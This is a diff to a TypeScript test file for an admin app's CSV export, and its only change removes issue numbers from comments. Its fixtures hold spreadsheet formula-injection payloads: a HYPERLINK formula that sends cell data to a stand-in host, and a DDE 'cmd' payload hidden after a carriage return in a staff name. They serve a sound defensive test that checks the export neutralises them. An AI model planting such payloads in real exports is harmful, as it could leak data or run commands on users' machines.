@@ -1,7 +1,7 @@
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { downloadRowsAsCsv } from '../../admin/src/csv';
 
-/** Issue 15, finding 2, in the admin: the report and audit exports write no cell a spreadsheet would run. */
+/** In the admin: the report and audit exports write no cell a spreadsheet would run. */
 describe('CSV exports', () => {
   const original = URL.createObjectURL;
   afterEach(() => {
@@ -29,7 +29,7 @@ describe('CSV exports', () => {
       reader.readAsArrayBuffer(blobs[0]!);
     });
     const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
-    // Every field quoted (issue 22, finding 4): a lone carriage return cannot end a row.
+    // Every field quoted: a lone carriage return cannot end a row.
     expect(text.split('\r\n')).toEqual([
       '\ufeff"S. No","State/Territory","Count"',
       `"1","'=HYPERLINK(""http://evil.test/?d=""&A1,""Click"")","3"`,
@@ -43,7 +43,7 @@ describe('CSV exports', () => {
       blobs.push(blob as Blob);
       return 'blob:csv';
     };
-    // Issue 22, finding 4: a staff name stored before control characters were refused.
+    // A staff name stored before control characters were refused.
     downloadRowsAsCsv([{ Member: "Demo Team\r=cmd|' /C calc'!A0", Action: 'Signed in' }], 'audit-log');
     await vi.waitFor(() => expect(blobs).toHaveLength(1));
     const bytes = await new Promise<ArrayBuffer>((resolve) => {
